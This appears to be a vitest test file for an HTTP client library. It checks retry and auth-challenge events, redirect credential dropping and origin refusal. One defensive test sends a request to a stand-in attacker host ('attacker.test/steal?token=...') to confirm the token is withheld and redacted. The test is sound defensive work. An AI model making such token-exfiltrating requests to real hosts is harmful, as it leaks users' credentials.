import {
  type AttacheEvent,
  type Authenticator,
  bearerAuth,
  createFetch,
  OriginNotAllowedError,
} from '@attache/core';
import { type MockPartnerApiOptions, mockPartnerApi } from '@attache/testing';
import { HttpResponse, http, passthrough } from 'msw';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { useMswServer } from './support/msw.ts';
import { type LocalServer, startHttpServer } from './support/servers.ts';

const BASE = 'https://api.partner.test';
const server = useMswServer();

afterEach(() => {
  vi.useRealTimers();
});

/** The partner: `routes` (default: every path under BASE); `api.faults` breaks it on demand. */
function partner(routes?: MockPartnerApiOptions['routes']) {
  const api = mockPartnerApi({ baseUrl: BASE, ...(routes === undefined ? {} : { routes }) });
  server.use(...api.handlers);
  return api;
}

/** A clock the handlers move forward, so `durationMs` is exact. */
function manualClock(start = 1_000): { now: () => number; advance: (ms: number) => void } {
  let t = start;
  return {
    now: () => t,
    advance: (ms) => {
      t += ms;
    },
  };
}

/**
 * The events of one call without its `attempt:*` events (tested on their own below) and without `callId`,
 * after checking that every event carries the same `callId`.
 */
function ofOneCall(events: readonly AttacheEvent[]): AttacheEvent[] {
  const ids = new Set(events.map((e) => e.callId));
  expect(ids.size).toBe(1);
  expect([...ids][0]).toMatch(/^call-[0-9a-z]+$/);
  return events
    .filter((e) => e.type !== 'attempt:start' && e.type !== 'attempt:end')
    .map(({ callId: _callId, ...rest }) => rest as AttacheEvent);
}

/**
 * Sends `Authorization: Bearer t<n>`; on a 401 moves to the next token, reports it through `context.emit`
 * and asks for a replay.
 */
function rotatingAuth(): Authenticator {
  let version = 1;
  return {
    name: 'rotating',
    sensitiveHeaders: ['authorization'],
    attach(draft) {
      draft.headers.set('authorization', `Bearer t${version}`);
    },
    challenge(_response, _request, context) {
      version++;
      context.emit({ type: 'token:acquired', source: 'network', expiresAt: 9_999_000, key: 'rotating' });
      return 'replay';
    },
  };
}

describe('event sequences', () => {
  it('a 503 retried once: start, retry:scheduled, end with 2 attempts', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
    const clock = manualClock();
    let calls = 0;
    server.use(
      http.get(`${BASE}/orders`, () => {
        clock.advance(30);
        return ++calls === 1 ? new HttpResponse(null, { status: 503 }) : HttpResponse.json([]);
      }),
    );
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: BASE,
      auth: bearerAuth({ token: 'tok' }),
      now: clock.now,
      random: () => 0.4,
      onEvent: (event) => events.push(event),
    });
    const pending = fetch('orders');
    await vi.advanceTimersByTimeAsync(100); // floor(0.4 × 250 ms)
    expect((await pending).status).toBe(200);
    const url = `${BASE}/orders`;
    expect(ofOneCall(events)).toStrictEqual([
      { type: 'request:start', method: 'GET', url },
      {
        type: 'retry:scheduled',
        method: 'GET',
        url,
        reason: 'status',
        status: 503,
        attempt: 1,
        delayMs: 100,
      },
      { type: 'request:end', method: 'GET', url, durationMs: 60, attempts: 2, status: 200 },
    ]);
  });

  it('a 401 replayed: the authenticator’s own event, challenge:handled, end with 2 attempts', async () => {
    const clock = manualClock();
    const seen: (string | null)[] = [];
    server.use(
      http.get(`${BASE}/me`, ({ request }) => {
        clock.advance(25);
        seen.push(request.headers.get('authorization'));
        return request.headers.get('authorization') === 'Bearer t2'
          ? HttpResponse.json({ ok: true })
          : new HttpResponse(null, {
              status: 401,
              headers: { 'www-authenticate': 'Bearer realm="partner", error="invalid_token"' },
            });
      }),
    );
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: BASE,
      auth: rotatingAuth(),
      now: clock.now,
      onEvent: (event) => events.push(event),
    });
    expect((await fetch('me')).status).toBe(200);
    expect(seen).toEqual(['Bearer t1', 'Bearer t2']);
    expect(ofOneCall(events)).toStrictEqual([
      { type: 'request:start', method: 'GET', url: `${BASE}/me` },
      { type: 'token:acquired', source: 'network', expiresAt: 9_999_000, key: 'rotating' },
      {
        type: 'challenge:handled',
        authenticator: 'rotating',
        status: 401,
        error: 'invalid_token',
        outcome: 'replay',
      },
      { type: 'request:end', method: 'GET', url: `${BASE}/me`, durationMs: 50, attempts: 2, status: 200 },
    ]);
  });

  it('a 401 that cannot be refreshed: challenge:handled with outcome fail, the 401 ends the call', async () => {
    const api = partner();
    api.faults.failNext(1, 401);
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: BASE,
      auth: bearerAuth({ token: 'static' }),
      now: () => 0,
      onEvent: (event) => events.push(event),
    });
    expect((await fetch('me')).status).toBe(401);
    expect(ofOneCall(events)).toStrictEqual([
      { type: 'request:start', method: 'GET', url: `${BASE}/me` },
      { type: 'challenge:handled', authenticator: 'bearer', status: 401, outcome: 'fail' },
      { type: 'request:end', method: 'GET', url: `${BASE}/me`, durationMs: 0, attempts: 1, status: 401 },
    ]);
    expect(api.calls).toEqual({ total: 1, accepted: 0, rejected: 0, faulted: 1 });
  });

  it('an origin refusal: start and an end with ORIGIN_NOT_ALLOWED, 0 attempts, URLs redacted', async () => {
    // No handler: anything sent would reach msw as unhandled and fail the test.
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: BASE,
      auth: bearerAuth({ token: 'tok' }),
      now: () => 0,
      onEvent: (event) => events.push(event),
    });
    const error = await fetch('https://attacker.test/steal?token=stolen&page=2').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(OriginNotAllowedError);
    const url = 'https://attacker.test/steal?token=%5Bredacted%5D&page=2';
    expect(ofOneCall(events)).toStrictEqual([
      { type: 'request:start', method: 'GET', url },
      { type: 'credential:withheld', origin: 'https://attacker.test', reason: 'origin-not-allowed' },
      { type: 'request:end', method: 'GET', url, durationMs: 0, attempts: 0, error: 'ORIGIN_NOT_ALLOWED' },
    ]);
    expect(JSON.stringify(events)).not.toContain('stolen');
  });
});

describe('redirect events (two real local servers)', () => {
  const apiKeyAuth: Authenticator = {
    name: 'api-key',
    sensitiveHeaders: ['x-api-key'],
    attach(draft) {
      draft.headers.set('x-api-key', 'key-123');
      draft.headers.set('authorization', 'Bearer tok');
    },
  };
  let partner: LocalServer;
  let other: LocalServer;

  beforeAll(async () => {
    other = await startHttpServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"landed":true}');
    });
    partner = await startHttpServer((req, res) => {
      if (req.url === '/elsewhere') res.writeHead(302, { location: `${other.origin}/landing` });
      else if (req.url === '/moved') res.writeHead(301, { location: '/here' });
      else res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
    });
  });

  afterAll(async () => {
    await partner.close();
    await other.close();
  });

  beforeEach(() => {
    // These requests go to the real loopback servers, not to msw.
    server.use(http.all(/^http:\/\/127\.0\.0\.1:\d+\//, () => passthrough()));
  });

  it('a cross-origin redirect: redirect:followed with credentialsDropped, then credential:withheld', async () => {
    other.requests.length = 0;
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: partner.origin,
      auth: apiKeyAuth,
      redirects: 'pipeline',
      now: () => 0,
      onEvent: (event) => events.push(event),
    });
    expect((await fetch('elsewhere')).status).toBe(200);
    expect(ofOneCall(events)).toStrictEqual([
      { type: 'request:start', method: 'GET', url: `${partner.origin}/elsewhere` },
      {
        type: 'redirect:followed',
        status: 302,
        from: `${partner.origin}/elsewhere`,
        to: `${other.origin}/landing`,
        credentialsDropped: true,
      },
      { type: 'credential:withheld', origin: other.origin, reason: 'redirect' },
      {
        type: 'request:end',
        method: 'GET',
        url: `${partner.origin}/elsewhere`,
        durationMs: 0,
        attempts: 1,
        status: 200,
      },
    ]);
    expect(other.requests.map((r) => [r.headers['x-api-key'], r.headers.authorization])).toEqual([
      [undefined, undefined],
    ]);
  });

  it('a same-origin redirect: credentialsDropped false and nothing withheld', async () => {
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: partner.origin,
      auth: apiKeyAuth,
      redirects: 'pipeline',
      now: () => 0,
      onEvent: (event) => events.push(event),
    });
    expect((await fetch('moved')).status).toBe(200);
    expect(ofOneCall(events).map((e) => e.type)).toEqual([
      'request:start',
      'redirect:followed',
      'request:end',
    ]);
    expect(ofOneCall(events)[1]).toStrictEqual({
      type: 'redirect:followed',
      status: 301,
      from: `${partner.origin}/moved`,
      to: `${partner.origin}/here`,
      credentialsDropped: false,
    });
  });

  it("redirects: 'platform' (the browser default): no redirect events, and only Authorization is dropped", async () => {
    other.requests.length = 0;
    const events: AttacheEvent[] = [];
    const fetch = createFetch({
      baseUrl: partner.origin,
      auth: apiKeyAuth,
      redirects: 'platform',
      now: () => 0,
      onEvent: (event) => events.push(event),
    });
    const response = await fetch('elsewhere');
    expect(response.redirected).toBe(true);
    expect(ofOneCall(events).map((e) => e.type)).toEqual(['request:start', 'request:end']);
    // The runtime follows the Fetch standard: a custom credential header reaches the other origin.
    expect(other.requests.map((r) => [r.headers['x-api-key'], r.headers.authorization])).toEqual([
      ['key-123', undefined],
    ]);
  });
});

describe('a throwing onEvent listener', () => {
  it('does not break the call: retries, response and every event still happen', async () => {
    const api = partner({ 'GET /orders': () => [{ id: 'o-1' }] });
    api.faults.failNext(1, 503);
    const types: string[] = [];
    const fetch = createFetch({
      baseUrl: BASE,
      auth: bearerAuth({ token: 'tok' }),
      random: () => 0,
      onEvent: (event) => {
        if (!event.type.startsWith('attempt:')) types.push(event.type);
        throw new Error(`listener failed on ${event.type}`);
      },
    });
    const response = await fetch('orders');
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual([{ id: 'o-1' }]);
    expect(api.calls).toEqual({ total: 2, accepted: 1, rejected: 0, faulted: 1 });
    expect(types).toEqual(['request:start', 'retry:scheduled', 'request:end']);
  });

  it('does not replace the error of a failed call', async () => {
    const fetch = createFetch({
      baseUrl: BASE,
      auth: bearerAuth({ token: 'tok' }),
      onEvent: () => {
        throw new Error('listener failed');
      },
    });
    await expect(fetch('https://attacker.test/')).rejects.toBeInstanceOf(OriginNotAllowedError);
  });
});
